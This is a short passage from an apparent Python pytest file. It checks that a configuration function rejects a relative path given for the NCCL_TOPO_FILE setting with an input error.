    with pytest.raises(InputError, match=r"NCCL_TOPO_FILE: 'topo\.xml' is not an absolute path"):
        publish_set(tmp_path, {"NCCL_TOPO_FILE": "topo.xml"}, make_prov())
